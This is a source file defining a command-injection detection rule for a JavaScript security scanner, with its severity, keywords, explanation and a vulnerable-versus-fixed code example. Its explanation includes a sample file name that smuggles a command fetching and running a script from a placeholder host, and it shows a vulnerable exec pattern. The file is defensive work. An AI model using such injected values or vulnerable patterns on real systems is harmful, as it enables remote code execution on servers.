import { defineJsRule, jsMessages } from './defineJsRule';

/** Shell commands built from values: child_process exec, spawn with a shell, shelljs, zx, Bun and Deno with `sh -c`. */
export const commandInjection = defineJsRule({
  id: 'injection/command-injection',
  severity: 'critical',
  confidence: 'high',
  cwe: [78],
  keywords: ['child_process', 'shelljs', 'zx', 'bun.spawn', 'deno.command', 'execa', 'exec'],
  docs: {
    summary: 'A shell command built from a non-literal value (exec, execSync, spawn with shell: true, sh -c)',
    why: 'The shell reads `;`, `&&`, `|`, backticks and `$()` in the value as more commands: a file name like `x; curl evil.sh | sh` runs whatever the attacker wants with the privileges of the server.',
    fix: 'Call the program directly with an argument array and no shell: `execFile(\'git\', [\'log\', branch])` or `spawn(cmd, args)`. If a shell is unavoidable, quote each value with shell-quote and allow-list the command.',
    example: {
      bad: "exec(`convert ${req.query.file} out.png`, callback);",
      good: "execFile('convert', [req.query.file, 'out.png'], callback);",
    },
  },
  messages: jsMessages('this shell command'),
});
